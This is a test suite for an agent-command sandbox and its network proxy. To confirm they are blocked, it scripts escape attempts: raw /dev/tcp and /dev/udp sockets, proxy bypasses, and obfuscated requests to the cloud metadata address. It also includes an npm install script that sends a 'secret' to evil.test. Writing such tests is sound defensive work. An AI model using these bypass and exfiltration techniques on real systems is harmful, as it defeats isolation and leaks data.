import { existsSync, readdirSync, readFileSync, rmSync } from "node:fs";
import path from "node:path";
import { describe, expect, test, vi } from "vitest";
import type { Asker } from "../../src/contract/verdict.ts";
import { agreeable, eventsOf, openGauntlet } from "../support/gauntlet.ts";
import { bash, connections, hello, privately, shown, withScript } from "../support/network.ts";
import { serveRegistry } from "../support/registry.ts";
import { makeWorkspace } from "../support/workspace.ts";

/** The name that the proxy's socket had: the sandbox's first process was started with it. */
const nameOfSocket = "tr '\\0' '\\n' </proc/1/cmdline | grep -- gauntlet-network-";
const isListening = (socket: string) => readFileSync("/proc/net/unix", "utf8").includes(socket);

describe("a command that was allowed to connect", () => {
  test("reaches its host, and that is a fact", async () => {
    const { port, requests } = await hello();
    const asker = agreeable();
    const gauntlet = await openGauntlet(makeWorkspace(), { settings: privately(port), onAsk: asker });
    const observation = await gauntlet.call(bash(`curl -sS http://localhost:${port}/`));
    expect(observation).toMatchObject({ ok: true, sandbox: { backend: "bubblewrap", used: true } });
    expect(shown(observation, "stdout")).toBe("hello");
    expect(shown(observation, "network")).toBe("");
    expect(requests).toEqual(["GET /"]);
    expect(asker.asked.map(({ prompt }) => prompt.effects)).toEqual([
      expect.arrayContaining(["connects to localhost"]),
    ]);
    expect(connections(gauntlet)).toEqual([
      {
        invocationId: observation.invocationId,
        host: "localhost",
        port,
        address: "127.0.0.1",
        outcome: "connected",
        decidedBy: "the permit",
        bytesUp: expect.any(Number),
        bytesDown: expect.any(Number),
        startedAt: expect.any(String),
        endedAt: expect.any(String),
      },
    ]);
    expect(observation.effects.seen).toContainEqual({ op: "connect", target: `localhost:${port}`, note: "connected" });
    const started = eventsOf(gauntlet).find((event) => event.type === "tool_invocation.started");
    expect(started?.data).toMatchObject({ sandbox: { network: "proxy: localhost" } });
  });

  test("has no other way out", async () => {
    const { port, requests } = await hello();
    const workspace = makeWorkspace();
    const gauntlet = await openGauntlet(workspace, { settings: privately(port), onAsk: agreeable() });
    const script = `
      curl -sS --noproxy '*' http://localhost:${port}/ || echo no proxy: $?
      NO_PROXY='*' no_proxy='*' curl -sS http://localhost:${port}/ || echo variable: $?
      exec 3<>/dev/tcp/127.0.0.1/${port} || echo loopback: $?
      exec 3<>/dev/tcp/1.1.1.1/443 || echo tcp: $?
      echo x >/dev/udp/1.1.1.1/53 || echo udp: $?
      getent hosts example.com || echo name: $?
      ls /etc/resolv.conf || echo resolver: $?
      ls -A /run/network; cat /proc/net/dev | grep -c :`;
    const observation = await gauntlet.call(bash(withScript(workspace, port, script)));
    expect(shown(observation, "stdout").split("\n")).toEqual([
      "hellono proxy: 7",
      "variable: 7",
      "loopback: 1",
      "tcp: 1",
      "udp: 1",
      "name: 2",
      "resolver: 2",
      "bridge.cjs",
      "node",
      "proxy",
      "1",
      "",
    ]);
    expect(requests).toEqual(["GET /"]);
    expect(connections(gauntlet)).toHaveLength(1);
  });

  test.each([
    ["an address", (port: number) => `http://127.0.0.1:${port}/`, "127.0.0.1", /no rule allows this address/],
    ["a metadata service", () => "http://169.254.169.254/latest/meta-data/", "169.254.169.254", /metadata/],
    ["a decimal address", (port: number) => `http://2130706433:${port}/`, "127.0.0.1", /no rule allows this address/],
    ["a mapped address", () => "-p -g http://[::ffff:169.254.169.254]/", "?", /not a plain host/],
  ])("does not reach %s", async (_what, url, host, reason) => {
    const { port, requests } = await hello();
    const gauntlet = await openGauntlet(makeWorkspace(), { settings: privately(port), onAsk: agreeable() });
    const observation = await gauntlet.call(bash(`curl -sS --fail ${url(port)}`));
    expect(observation).toMatchObject({ ok: false, code: "command_failed" });
    expect(connections(gauntlet)).toMatchObject([{ host, outcome: "refused", reason: expect.stringMatching(reason) }]);
    expect(shown(observation, "network")).toMatch(reason);
    expect(requests).toEqual([]);
  });

  test("does not reach a private address that nobody named, whoever agrees", async () => {
    const { port, requests } = await hello();
    const gauntlet = await openGauntlet(makeWorkspace(), { onAsk: agreeable() });
    const observation = await gauntlet.call(bash(`curl -sS --fail --noproxy "" http://localhost:${port}/`));
    expect(connections(gauntlet)).toMatchObject([
      { host: "localhost", port, outcome: "refused", reason: "it resolves to a loopback address", decidedBy: "test" },
    ]);
    expect(shown(observation, "network")).toContain("it resolves to a loopback address");
    expect(requests).toEqual([]);
  });

  test("loses its proxy with its end", async () => {
    const { port } = await hello();
    const workspace = makeWorkspace();
    const gauntlet = await openGauntlet(workspace, { settings: privately(port), onAsk: agreeable() });
    const observation = await gauntlet.call(bash(withScript(workspace, port, nameOfSocket)));
    const socket = shown(observation, "stdout").replace("hello", "").trim();
    expect(socket).toMatch(/\/gauntlet-network-[^/]+\/proxy$/);
    expect([existsSync(socket), isListening(socket)]).toEqual([false, false]);
  });

  test("keeps it in the background until it ends", async () => {
    const { port } = await hello();
    const workspace = makeWorkspace();
    const gauntlet = await openGauntlet(workspace, { settings: privately(port), onAsk: agreeable() });
    const waits = `until [ -e go ]; do sleep 0.01; done; curl -sS http://localhost:${port}/again http://1.1.1.1/`;
    const command = withScript(workspace, port, `${nameOfSocket}; ${waits}`);
    const observation = await gauntlet.call(bash(command, { run_in_background: true }));
    const id = String(observation.data?.job);
    const status = (wait_ms: number) => gauntlet.call({ tool: "task_output", input: { id, wait_ms } });
    const output = async (wait_ms: number) => shown(await status(wait_ms), "stdout");
    await vi.waitFor(async () => expect(await output(0)).toContain("/proxy"), { timeout: 10_000 });
    const socket = (await output(0)).replace("hello", "").trim();
    expect([existsSync(socket), isListening(socket)]).toEqual([false, true]);
    workspace.write("go", "");
    expect(await output(10_000)).toContain("hello again");
    expect(isListening(socket)).toBe(false);
    expect(shown(await status(0), "network")).toBe("1.1.1.1:80 refused: no rule allows this address");
    const outcomes = connections(gauntlet).map(({ outcome }) => outcome);
    expect(outcomes).toEqual(["connected", "connected", "refused"]);
  });

  test("has helpers of its own that it does not see as its jobs", async () => {
    const { port } = await hello();
    const workspace = makeWorkspace();
    const gauntlet = await openGauntlet(workspace, { settings: privately(port), onAsk: agreeable() });
    const script = 'jobs; wait; echo "waited [$!]"; env | grep GAUNTLET; ls /proc/self/fd | tr "\\n" " "';
    const observation = await gauntlet.call(bash(withScript(workspace, port, script)));
    expect(shown(observation, "stdout")).toMatch(/^hellowaited \[\]\n0 1 2 /);
  });
});

describe("a command that said nothing of a network", () => {
  test("finds nothing of one", async () => {
    const { port, requests } = await hello();
    const workspace = makeWorkspace({
      "more.sh": `ls /run/network; env | grep -i http_proxy; exec 3<>/dev/tcp/127.0.0.1/18219; curl -sS http://localhost:${port}/; ls /run/home/.cache; true`,
    });
    const settings = { ...privately(port), permissions: { allow: ["WebFetch(domain:localhost)"] } };
    const gauntlet = await openGauntlet(workspace, { settings, onAsk: agreeable() });
    const observation = await gauntlet.call(bash("bash more.sh"));
    expect(shown(observation, "stdout")).toBe("");
    expect(connections(gauntlet)).toEqual([]);
    expect(requests).toEqual([]);
    const started = eventsOf(gauntlet).find((event) => event.type === "tool_invocation.started");
    expect(started?.data).toMatchObject({ sandbox: { network: "none" } });
  });

  test("a project cannot name private hosts", async () => {
    const { port, requests } = await hello();
    const workspace = makeWorkspace({ ".gauntlet/settings.json": JSON.stringify(privately(port)) });
    const gauntlet = await openGauntlet(workspace, { onAsk: agreeable() });
    await gauntlet.call(bash(`curl -sS --fail --noproxy "" http://localhost:${port}/`));
    expect(connections(gauntlet)).toMatchObject([{ outcome: "refused", reason: "it resolves to a loopback address" }]);
    expect(requests).toEqual([]);
  });
});

test("an explanation names the hosts, an audit the connections", async () => {
  const { port } = await hello();
  const gauntlet = await openGauntlet(makeWorkspace(), { settings: privately(port), onAsk: agreeable() });
  const { notes } = await gauntlet.explain(bash("npm install"));
  expect(notes).toContain(
    "Network only through the proxy: registry.npmjs.org; you are asked about other hosts while the command runs.",
  );
  expect((await gauntlet.explain(bash("npm test"))).notes.join()).not.toContain("proxy");
  const { auditId } = await gauntlet.call(bash(`curl -sS http://localhost:${port}/`));
  const why = gauntlet.archive.why(auditId);
  const isolation = why.ok
    ? why.value.questions.find(({ question }) => question === "Under which isolation?")
    : undefined;
  expect(isolation?.answer).toContain("network: proxy: localhost.");
  expect(isolation?.answer).toContain(`Connections: localhost:${port} connected.`);
});

test("where no sandbox of ours holds it, that is said", async () => {
  const { port } = await hello();
  const settings = { ...privately(port), sandbox: { backend: "external" } } as const;
  const gauntlet = await openGauntlet(makeWorkspace(), { settings, onAsk: agreeable() });
  const observation = await gauntlet.call(bash(`curl -sS --noproxy '*' http://localhost:${port}/`));
  expect(shown(observation, "stdout")).toBe("hello");
  expect(shown(observation, "network")).toBe("connections of commands are neither blocked nor recorded here");
  expect(connections(gauntlet)).toEqual([]);
});

test("an approved install reaches its registry and nothing else, and its script no further", async () => {
  const script = `
    const { request } = require("node:http");
    const { connect } = require("node:net");
    const { writeFileSync } = require("node:fs");
    const proxy = new URL(process.env.HTTP_PROXY);
    const said = {};
    const done = () => Object.keys(said).length === 2 && writeFileSync(process.env.INIT_CWD + "/said.json", JSON.stringify(said));
    const headers = { "Proxy-Authorization": "Basic " + btoa(proxy.username + ":" + proxy.password) };
    request({ host: proxy.hostname, port: proxy.port, path: "http://evil.test/?secret", headers }, (answer) => {
      said.proxy = answer.statusCode; done();
    }).end();
    connect({ host: "1.1.1.1", port: 443 }).on("error", (error) => { said.direct = error.code; done(); });`;
  const { port, requests } = await serveRegistry("tiny-package", script);
  const workspace = makeWorkspace({ "package.json": JSON.stringify({ name: "project", version: "1.0.0" }) });
  const hosts: string[] = [];
  const onAsk: Asker = async ({ id, prompt }) => {
    const host = /connect to (\S+)\?$/.exec(prompt.title)?.[1];
    if (host !== undefined) hosts.push(host);
    return { request: id, answer: host === undefined ? "allow" : "deny" };
  };
  const gauntlet = await openGauntlet(workspace, { settings: privately(port), onAsk });
  const install = `npm install tiny-package --registry=http://localhost:${port}/ --no-audit --no-fund --no-update-notifier`;
  const observation = await gauntlet.call(bash(install));
  expect(observation).toMatchObject({ ok: true });
  expect(workspace.read("node_modules/tiny-package/index.js")).toContain("tiny");
  expect(JSON.parse(workspace.read("said.json"))).toEqual({ proxy: 403, direct: "ENETUNREACH" });
  expect(hosts).toEqual(["evil.test:80"]);
  expect(requests).toEqual(["GET /tiny-package", "GET /tiny-package/-/tiny-package-1.0.0.tgz"]);
  const made = connections(gauntlet).map(({ host, outcome }) => `${host} ${outcome}`);
  expect(new Set(made)).toEqual(new Set(["localhost connected", "evil.test refused"]));
  expect(shown(observation, "network")).toBe("evil.test:80 refused: the user declined it");

  // What was fetched is kept for this project, below our own state.
  rmSync(workspace.path("node_modules"), { recursive: true });
  expect(await gauntlet.call(bash(`${install} --prefer-offline --ignore-scripts`))).toMatchObject({ ok: true });
  expect(workspace.read("node_modules/tiny-package/index.js")).toContain("tiny");
  expect(requests).toHaveLength(2);
  expect(readdirSync(path.join(workspace.state, "cache"))).toHaveLength(1);
});
